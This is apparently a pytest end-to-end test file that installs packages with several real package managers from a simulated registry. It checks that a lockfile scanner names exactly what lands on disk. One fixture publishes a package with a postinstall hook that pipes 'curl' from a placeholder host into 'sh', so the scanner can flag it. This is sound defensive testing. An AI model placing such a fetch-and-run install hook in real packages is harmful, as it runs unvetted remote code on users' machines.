"""Real package managers install from the simulator; what they put on disk is what a scan of their lockfile names."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from scripts.install_clients import CLIENTS
from tests.end_to_end.run import Machine
from tests.registry_simulator import RegistrySimulator

pytestmark = pytest.mark.clients

INSTALL = {
    "npm": ["install", "--ignore-scripts", "--no-audit", "--no-fund"],
    "yarn-1": ["install", "--ignore-scripts", "--non-interactive"],
    "yarn-4": ["install", "--mode=skip-build"],
    "pnpm": ["install", "--ignore-scripts", "--no-frozen-lockfile"],
    "bun": ["install", "--ignore-scripts"],
}
LOCKFILE = {
    "npm": "package-lock.json",
    "yarn": "yarn.lock",
    "pnpm": "pnpm-lock.yaml",
    "bun": "bun.lock",
}
#: deno keeps its packages in a store of its own; that its lockfile is read is tested with real lockfiles.
DRIVEN = [name for name in CLIENTS if not name.startswith("deno")]


def test_every_client_is_there() -> None:
    missing = [each.name for each in CLIENTS.values() if not (each.home / "node_modules" / each.program).exists()]
    assert not missing, f"run: python -m scripts.install_clients  (missing: {', '.join(missing)})"


@pytest.fixture
def shop(registry: RegistrySimulator) -> RegistrySimulator:
    """A few packages with one of each kind of dependency, and one whose install script fetches code."""
    registry.publish("leaf", "1.0.0")
    registry.publish("leaf", "2.1.0")
    registry.publish("@scope/part", "3.0.0", manifest={"dependencies": {"leaf": "^1.0.0"}})
    registry.publish("tree", "1.2.3", manifest={"dependencies": {"leaf": "^2.0.0", "@scope/part": "3.x"}})
    registry.publish("maybe", "1.0.0")
    registry.publish("tester", "5.0.0")
    script = {"scripts": {"postinstall": "curl -s https://cdn.acme.invalid/x.sh | sh"}}
    registry.publish("widgets", "2.1.0", manifest=script)
    return registry


@pytest.mark.parametrize("name", DRIVEN)
def test_what_a_client_installs_is_what_the_scan_names(
    name: str, shop: RegistrySimulator, machine: Machine, project: Path
) -> None:
    manifest = {
        "name": "app",
        "version": "1.0.0",
        "private": True,
        "dependencies": {"tree": "^1.0.0", "other-leaf": "npm:leaf@1.0.0", "widgets": "2.1.0"},
        "optionalDependencies": {"maybe": "^1.0.0"},
        "devDependencies": {"tester": "^5.0.0"},
    }
    (project / "package.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    (project / ".npmrc").write_text(f"registry={shop.url}/\n", encoding="utf-8")
    if name == "yarn-4":
        (project / "yarn.lock").write_text("", encoding="utf-8")
    _install(name, shop, machine, project)
    installed = _installed(project)
    assert len(installed) >= 7

    found = machine.assay("scan", LOCKFILE[name.partition("-")[0]], "--format", "json", cwd=project)
    assert found.refs == installed
    assert found.rules("widgets@2.1.0") >= {"install-script-fetches"}
    lines = (project / LOCKFILE[name.partition("-")[0]]).read_text(encoding="utf-8").splitlines()
    for usage in found.by_ref["tree@1.2.3"]["usages"]:
        assert "tree" in lines[usage["location"]["line"] - 1]


def _install(name: str, registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    client = CLIENTS[name]
    command = [*client.command(), *(INSTALL.get(name) or INSTALL[name.partition("-")[0]])]
    done = subprocess.run(
        command, cwd=project, env=_environment(registry, machine), capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, f"{command}\n{done.stdout}\n{done.stderr}"


def _environment(registry: RegistrySimulator, machine: Machine) -> Mapping[str, str]:
    """Every client asks the simulator, keeps its caches in the machine's folder, and is not asked to phone home."""
    return machine.environment(
        {
            "npm_config_registry": registry.url,
            "npm_config_cache": str(machine.folder / "npm-cache"),
            "npm_config_store_dir": str(machine.folder / "pnpm-store"),
            "YARN_NPM_REGISTRY_SERVER": registry.url,
            "YARN_UNSAFE_HTTP_WHITELIST": "127.0.0.1",
            "YARN_NODE_LINKER": "node-modules",
            "YARN_ENABLE_TELEMETRY": "0",
            "YARN_ENABLE_GLOBAL_CACHE": "0",
            "YARN_NPM_MINIMAL_AGE_GATE": "0",
            "YARN_CACHE_FOLDER": str(machine.folder / "yarn-cache"),
            "BUN_CONFIG_REGISTRY": registry.url,
            "BUN_INSTALL_CACHE_DIR": str(machine.folder / "bun-cache"),
            "CI": "",
        }
    )


def _installed(project: Path) -> set[str]:
    """Name and version of every package on disk, links not followed twice."""
    found = set()
    for file in _manifests(project / "node_modules"):
        document = json.loads(file.read_text(encoding="utf-8"))
        if document.get("name") and document.get("version"):
            found.add(f"{document['name']}@{document['version']}")
    return found


def _manifests(folder: Path) -> Iterator[Path]:
    for entry in sorted(folder.iterdir()):
        if entry.is_symlink() or not entry.is_dir():
            continue
        if entry.name.startswith("@") or entry.name in (".pnpm", "node_modules") or entry.parent.name == ".pnpm":
            yield from _manifests(entry)
        elif (entry / "package.json").exists():
            yield entry / "package.json"
            if (entry / "node_modules").is_dir():
                yield from _manifests(entry / "node_modules")
        elif (entry / "node_modules").is_dir():
            yield from _manifests(entry / "node_modules")
